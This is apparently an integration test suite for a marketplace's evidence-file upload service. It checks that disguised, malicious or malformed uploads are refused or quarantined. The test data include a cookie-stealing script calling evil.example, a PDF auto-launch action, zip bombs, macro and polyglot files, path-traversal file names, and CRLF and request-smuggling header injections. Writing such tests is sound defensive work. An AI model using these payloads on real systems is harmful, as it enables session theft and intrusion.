import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { PRESETS } from '../../libs/domain/policy/presets.js';
import { clientOf, type Answer } from '../support/api-client.js';
import { startClamd, type TestClamd } from '../support/clamd.js';
import { startTestEngine, type TestEngine } from '../support/engine.js';
import {
  DOCX,
  docx,
  eicar,
  gif,
  objectStream,
  pdf,
  png,
  pngOf,
  sha256Of,
} from '../support/evidence-samples.js';
import { evidenceOnDisk, handingIn, type HandingIn } from '../support/hand-in.js';
import { disputed, openMarketplace, type Marketplace } from '../support/marketplace.js';
import { until } from '../support/until.js';
import { zip } from '../support/zip.js';

const MAX_FILE = 20_000;
const MAX_PARTY = 50_000;
const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`;

const typed = (mediaType: string) => ({ 'content-type': mediaType });
const named = (name: string) => ({ 'x-file-name': encodeURIComponent(name) });
const digestOf = (bytes: Buffer) => ({
  'content-digest': `sha-256=:${Buffer.from(sha256Of(bytes), 'hex').toString('base64')}:`,
});

async function* dripping(bytes: Buffer, everyMs: number) {
  for (const byte of bytes) {
    yield Buffer.from([byte]);
    await sleep(everyMs);
  }
}

async function* chunksOf(...chunks: readonly Buffer[]) {
  yield* chunks;
}

/** A file as an attacker hands it in, and what becomes of it; everything else is honest. */
type Abuse = readonly [
  what: string,
  bytes: Buffer | string,
  headers: Readonly<Record<string, string>>,
  status: number,
  code: string,
];

const REFUSED: readonly Abuse[] = [
  ['HTML that is said to be a PNG', `<html>${SCRIPT}`, typed('image/png'), 415, 'EVIDENCE.MEDIA_TYPE_LIES'],
  ['a PNG that is said to be a PDF', png(), typed('application/pdf'), 415, 'EVIDENCE.MEDIA_TYPE_LIES'],
  [
    'a program that is said to be a PDF',
    'MZ\x90\x00\x03',
    typed('application/pdf'),
    415,
    'EVIDENCE.MEDIA_TYPE_LIES',
  ],
  ['HTML', `<!doctype html>${SCRIPT}`, typed('text/html'), 415, 'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED'],
  ['HTML that says nothing of itself', `<p>${SCRIPT}`, {}, 415, 'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED'],
  ['HTML that is said to be text', `<p>${SCRIPT}`, typed('text/plain'), 415, 'EVIDENCE.MEDIA_TYPE_LIES'],
  ['text with a script in it', `Dear sirs, ${SCRIPT}`, typed('text/plain'), 422, 'EVIDENCE.HARMFUL'],
  ['an SVG with a script', SVG, typed('image/svg+xml'), 415, 'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED'],
  ['an SVG that says nothing of itself', SVG, {}, 415, 'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED'],
  ['an SVG that is said to be a PNG', SVG, typed('image/png'), 415, 'EVIDENCE.MEDIA_TYPE_LIES'],
  ['a GIF that is HTML as well', gif(SCRIPT), typed('image/gif'), 422, 'EVIDENCE.HARMFUL'],
  [
    'a GIF that is a Java archive as well',
    Buffer.concat([gif(), zip([{ name: 'Evil.class', content: 'CAFEBABE' }])]),
    typed('image/gif'),
    422,
    'EVIDENCE.HARMFUL',
  ],
  [
    'a PDF with a script',
    pdf('/OpenAction << /S /JavaScript /JS (app.launchURL("//evil.example")) >>'),
    typed('application/pdf'),
    422,
    'EVIDENCE.HARMFUL',
  ],
  [
    'a PDF with a script in a compressed object',
    pdf('', objectStream('5 0 << /S /J#61vaScript /JS (1) >>')),
    typed('application/pdf'),
    422,
    'EVIDENCE.HARMFUL',
  ],
  [
    'a PDF that is HTML as well',
    pdf('', `<html>${SCRIPT}`),
    typed('application/pdf'),
    422,
    'EVIDENCE.HARMFUL',
  ],
  [
    'a zip bomb',
    zip([{ name: 'bomb', content: Buffer.alloc(10_000_000) }]),
    typed('application/zip'),
    415,
    'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED',
  ],
  [
    'a zip bomb in a document',
    docx([
      { name: 'word/a.xml', content: Buffer.alloc(9_000_000) },
      { name: 'word/b.xml', content: Buffer.alloc(9_000_000) },
    ]),
    typed(DOCX),
    422,
    'EVIDENCE.HARMFUL',
  ],
  [
    'a zip bomb that lies about its size',
    docx([{ name: 'word/a.xml', content: Buffer.alloc(9_000_000), says: { unpacked: 100 } }]),
    typed(DOCX),
    422,
    'EVIDENCE.HARMFUL',
  ],
  [
    'a document with macros',
    docx([{ name: 'word/vbaProject.bin', content: 'Shell "cmd"' }]),
    typed(DOCX),
    422,
    'EVIDENCE.HARMFUL',
  ],
  ['EICAR', eicar(), typed('text/plain'), 422, 'EVIDENCE.INFECTED'],
  ['nothing at all', '', typed('image/png'), 422, 'EVIDENCE.EMPTY'],
  ['one byte over the limit', pngOf(MAX_FILE + 1), typed('image/png'), 413, 'EVIDENCE.FILE_TOO_LARGE'],
  ['another hash than announced', png(), digestOf(gif()), 422, 'EVIDENCE.OTHER_HASH'],
  ['a hash that is none', png(), { 'content-digest': 'sha-256=abc' }, 400, 'REQUEST.CONTENT_DIGEST'],
  ['bytes of no known form', Buffer.from([0, 1, 2, 3]), {}, 415, 'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED'],
  ['a packed body', gzipSync(png()), { 'content-encoding': 'gzip' }, 415, 'REQUEST.CONTENT_ENCODING'],
  [
    'a form with a file in it',
    '--b\r\n\r\n--b--',
    typed('multipart/form-data; boundary=b'),
    415,
    'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED',
  ],
  ['JSON', '{"a":1}', typed('application/json'), 415, 'EVIDENCE.MEDIA_TYPE_NOT_ACCEPTED'],
  ['JSON with a prototype in it', '{"__proto__":{}}', typed('application/json'), 400, 'JSON.'],
  ['a name of 300 characters', png(), named('x'.repeat(300)), 400, 'EVIDENCE.FILE_NAME'],
  ['a name that cannot be decoded', png(), { 'x-file-name': '%E0%A4%A' }, 400, 'EVIDENCE.FILE_NAME'],
];

describe('Abuse of evidence files', () => {
  let clamd: TestClamd;
  let engine: TestEngine;
  let market: Marketplace;
  let buyer: HandingIn;
  let folder: string;
  const PATH = '/v1/orders/O-1/disputes/1/evidence-files';

  beforeAll(async () => {
    clamd = await startClamd();
    engine = await startTestEngine({ CLAMD_URL: clamd.url, RECOURSE_UPLOAD_PATIENCE_SECONDS: '1' });
    folder = join(engine.dataDir, 'evidence');
    market = await openMarketplace(engine);
    const [one, other] = [
      await clientOf(engine, 'policy_admin', 'PA1'),
      await clientOf(engine, 'policy_admin', 'PA2'),
    ];
    const evidenceLimits = {
      ...PRESETS.standard.evidenceLimits,
      maxFileBytes: MAX_FILE,
      maxPartyBytes: MAX_PARTY,
    };
    const parameters = { ...PRESETS.standard, evidenceLimits };
    await one.done('/v1/policies', { policyId: 'small-files', title: 'Small files', parameters });
    await other.done('/v1/policies/small-files/publish', { version: 1 });
    await disputed(market, 'O-1', { policyId: 'small-files' });
    buyer = await handingInAs('buyer', 'B1');
  });
  afterAll(async () => {
    await engine.stop();
    await clamd.stop();
  });
  beforeEach(() => clamd.behave('well'));

  const handingInAs = async (role: Parameters<TestEngine['token']>[0], name: string, path = PATH) =>
    handingIn(engine.url, await engine.token(role, name), path);
  const onDisk = () => evidenceOnDisk(folder);
  const refusal = ({ status, body }: Answer) => [status, body?.code] as const;

  it.each(REFUSED)('refused: %s', async (_what, bytes, headers, status, code) => {
    const before = await onDisk();
    const answer = await buyer.send(Buffer.from(bytes), headers);
    expect([answer.status, answer.body]).toEqual([
      status,
      expect.objectContaining({ status, code: expect.stringContaining(code), errors: [expect.anything()] }),
    ]);
    expect(await onDisk()).toEqual(before);
    expect(before.incoming).toBe(0);
  });

  it('refused as soon as it is too much: a file without an end', async () => {
    const before = await onDisk();
    async function* endless() {
      for (;;) {
        yield Buffer.alloc(1_000, png());
        await sleep(1);
      }
    }
    expect(refusal(await buyer.stream(endless()))).toEqual([413, 'EVIDENCE.FILE_TOO_LARGE']);
    expect(await onDisk()).toEqual(before);
  });

  it('refused: a body without a single chunk', async () => {
    expect(refusal(await buyer.stream(chunksOf()))).toEqual([422, 'EVIDENCE.EMPTY']);
  });

  it('cut off: bytes that come one by one', async () => {
    const before = await onDisk();
    expect(refusal(await buyer.stream(dripping(png(), 20)))).toEqual([408, 'EVIDENCE.TOO_SLOW']);
    expect(await onDisk()).toEqual(before);
  });

  it('gone without a trace: a file whose sender goes away half-way', async () => {
    const before = await onDisk();
    const sending = await buyer.begin(pngOf(MAX_FILE).subarray(0, 9_000), MAX_FILE);
    await until(async () => (await onDisk()).incoming === 1);
    sending.abort();
    await until(async () => (await onDisk()).incoming === 0);
    expect(await onDisk()).toEqual(before);
  });

  it('cut off: a file that ends before the length that was announced', async () => {
    const before = await onDisk();
    const begun = () => until(async () => (await onDisk()).incoming === 1);
    const answer = await buyer.raw(['Content-Length: 5000'], png(), begun);
    expect(answer).not.toMatch(/^HTTP\/1\.1 2/);
    await until(async () => (await onDisk()).incoming === 0);
    expect(await onDisk()).toEqual(before);
  });

  it('no part of it: what follows the length that was announced', async () => {
    const bytes = png('announced');
    const more = Buffer.concat([bytes, Buffer.from(SCRIPT)]);
    const answer = await buyer.raw([`Content-Length: ${bytes.length}`], more);
    expect(answer).toMatch(/^HTTP\/1\.1 (201|400)/);
    const { items } = (await market.buyer.get(PATH)).body;
    expect(items.map(({ sha256 }: { sha256: string }) => sha256)).not.toContain(sha256Of(more));
    await until(async () => (await onDisk()).incoming === 0);
  });

  it.each([
    ['two lengths', ['Content-Length: 10', 'Content-Length: 20']],
    ['a length and chunks', ['Content-Length: 10', 'Transfer-Encoding: chunked']],
    ['a length that is none', ['Content-Length: ten']],
    ['a name with an end of line', ['X-File-Name: a\rSet-Cookie: b=c', 'Content-Length: 0']],
    ['a name with a NUL', ['X-File-Name: a\0b', 'Content-Length: 0']],
  ])('not even heard: %s', async (_what, headers) => {
    expect(await buyer.raw(headers, '')).toMatch(/^HTTP\/1\.1 400/);
  });

  it('kept under its hash, whatever it is called', async () => {
    for (const name of [
      '../../../../etc/cron.d/evil',
      '..\\..\\evil.exe',
      'C:evil',
      '/etc/passwd',
      '.',
      'a\r\nb: c',
    ]) {
      const answer = await buyer.send(png(name), named(name));
      expect([answer.status, answer.body.fileName]).toEqual([
        201,
        expect.stringMatching(/^[^/\\\r\n:]+\.png$/),
      ]);
    }
    const { incoming, files, waiting } = await onDisk();
    expect([incoming, files]).toEqual([0, waiting]);
  });

  it('sent to be saved under a harmless name, in one header, whatever evidence calls it', async () => {
    const bytes = png('named');
    await buyer.send(bytes);
    const evidence = (fileName: string) => ({
      kind: 'PHOTO',
      sha256: sha256Of(bytes),
      size: bytes.length,
      mediaType: 'image/png',
      fileName,
    });
    const submit = '/v1/orders/O-1/disputes/1/submit-evidence';
    const split = await market.buyer.post(submit, evidence('a.png\r\nSet-Cookie: session=evil'));
    expect(split).toMatchObject({ status: 400, body: { errors: [{ pointer: '/fileName' }] } });
    await market.buyer.done(submit, evidence('../../"; filename="evil.html'));
    const { headers } = await market.supplier.get('/v1/orders/O-1/disputes/1/evidence/1/file');
    expect(headers.get('content-disposition')).toBe(
      `attachment; filename="_; filename=_evil.html.png"; filename*=UTF-8''_%3B%20filename%3D_evil.html.png`,
    );
  });

  it('kept: exactly as much as the limit allows', async () => {
    const other = await handingInAs('agent', 'G1');
    expect((await other.send(pngOf(MAX_FILE), typed('image/png'))).status).toBe(201);
  });

  it('kept once: the same bytes twice', async () => {
    const bytes = png('twice');
    const first = await buyer.send(bytes);
    const { files } = await onDisk();
    const again = await buyer.send(bytes);
    expect([first.status, again.status, again.body.sha256]).toEqual([201, 200, first.body.sha256]);
    expect((await onDisk()).files).toBe(files);
  });

  it('refused: more than a party may hand in, also at the same time, and nothing is lost of what it has', async () => {
    await disputed(market, 'O-quota', { policyId: 'small-files' });
    const path = '/v1/orders/O-quota/disputes/1/evidence-files';
    const supplier = await handingInAs('supplier', 'S1', path);
    const answers = await Promise.all(
      [MAX_FILE, MAX_FILE - 1, MAX_FILE - 2, MAX_FILE - 3].map((size) => supplier.send(pngOf(size))),
    );
    expect(answers.filter(({ status }) => status === 201)).toHaveLength(2);
    expect(answers.filter(({ status }) => status === 422)).toHaveLength(2);
    const refused = await supplier.send(pngOf(15_000));
    expect(refused).toMatchObject({
      status: 422,
      body: { errors: [{ code: 'EVIDENCE.QUOTA_EXCEEDED', rule: 26 }] },
    });
    expect((await (await handingInAs('buyer', 'B1', path)).send(png())).status).toBe(201);
    expect((await market.supplier.get(path)).body.items).toHaveLength(2);
  });

  it('refused: more than four files at once', async () => {
    const supplier = await handingInAs('supplier', 'S1');
    const begun = await Promise.all(
      [1, 2, 3, 4].map((at) => supplier.begin(png(`${at}`).subarray(0, 40), 1_000)),
    );
    await until(async () => (await onDisk()).incoming === 4);
    const fifth = await supplier.send(png('5'));
    expect([refusal(fifth), fifth.headers.get('retry-after')]).toEqual([
      [429, 'EVIDENCE.TOO_MANY_AT_ONCE'],
      '1',
    ]);
    for (const sending of begun) sending.abort();
    await until(async () => (await onDisk()).incoming === 0);
    await until(async () => (await supplier.send(png('5'))).status !== 429);
  });

  it('quarantined: what the scanner could not look at; it is given to nobody, and removed when it is infected', async () => {
    clamd.behave('hangs up');
    const supplier = await handingInAs('supplier', 'S1');
    const held = await supplier.send(eicar(), typed('text/plain'));
    expect([held.status, held.body.scan]).toEqual([201, 'quarantined']);
    await market.supplier.done('/v1/orders/O-1/disputes/1/submit-evidence', {
      kind: 'CORRESPONDENCE',
      sha256: sha256Of(eicar()),
      size: eicar().length,
      mediaType: 'text/plain',
      fileName: 'letter.txt',
    });
    const { disputes } = (await market.buyer.get('/v1/orders/O-1')).body;
    const file = `/v1/orders/O-1/disputes/1/evidence/${disputes[0].evidence.length}/file`;
    for (const client of [market.buyer, market.supplier, market.agent, market.auditor]) {
      expect(refusal(await client.get(file))).toEqual([409, 'EVIDENCE.QUARANTINED']);
    }
    const { files } = await onDisk();
    clamd.behave('well');
    expect(refusal(await market.buyer.get(file))).toEqual([410, 'EVIDENCE.INFECTED']);
    expect((await onDisk()).files).toBe(files! - 1);
  });

  it('refused: who may not submit evidence', async () => {
    const send = async (...who: Parameters<typeof handingInAs>) =>
      refusal(await (await handingInAs(...who)).send(png('who')));
    const before = await onDisk();
    expect(await send('auditor', 'U1')).toEqual([403, 'COMMAND.NOT_YOURS']);
    expect(await send('payments', 'P1')).toEqual([403, 'COMMAND.NOT_YOURS']);
    expect(await send('arbitrator', 'A9')).toEqual([403, 'ARBITRATOR.NOT_ASSIGNED']);
    expect(await send('buyer', 'B1', '/v1/orders/O-1/disputes/7/evidence-files')).toEqual([
      404,
      'DISPUTE.NOT_FOUND',
    ]);
    expect(await send('buyer', 'B1', '/v1/orders/O-1/disputes/0/evidence-files')).toEqual([
      404,
      'REQUEST.NO_SUCH_ADDRESS',
    ]);
    expect(await onDisk()).toEqual(before);
  });

  it("refused: another's order, which looks like none", async () => {
    const same = ({ status, body }: Answer) => ({ status, ...body, traceId: '', instance: '' });
    for (const [role, name] of [
      ['buyer', 'B2'],
      ['supplier', 'B1'],
      ['inspector', 'I1'],
    ] as const) {
      const hidden = await (await handingInAs(role, name)).send(png());
      const missing = await (
        await handingInAs(role, name, '/v1/orders/O-missing/disputes/1/evidence-files')
      ).send(png());
      expect(hidden.status).toBe(404);
      expect(same(hidden)).toEqual(same(missing));
    }
  });

  it('refused: without a token, or with a bad one, however large the file', async () => {
    const large = Buffer.alloc(5_000_000);
    for (const token of ['', 'not.a.token']) {
      expect((await handingIn(engine.url, token, PATH).send(large)).status).toBe(401);
    }
  });

  it('refused: after the dispute was closed', async () => {
    await disputed(market, 'O-closed', { policyId: 'small-files' });
    const path = '/v1/orders/O-closed/disputes/1/evidence-files';
    const late = await handingInAs('buyer', 'B1', path);
    expect((await late.send(png('in time'))).status).toBe(201);
    await market.buyer.done('/v1/orders/O-closed/disputes/1/withdraw');
    expect(refusal(await late.send(png('too late')))).toEqual([409, 'DISPUTE.WRONG_STATE']);
    expect(refusal(await market.buyer.get(path))).toEqual([409, 'DISPUTE.WRONG_STATE']);
  });

  it('and through all of it nothing was half-written, and every file has an upload that names it', async () => {
    const { incoming, files, waiting, settled } = await onDisk();
    expect([incoming, settled]).toEqual([0, 0]);
    // One upload is of the file that was removed; buyer and supplier have handed in some of the same.
    expect(files).toBeLessThanOrEqual(waiting!);
    expect((await market.buyer.get(PATH)).status).toBe(200);
  });
});
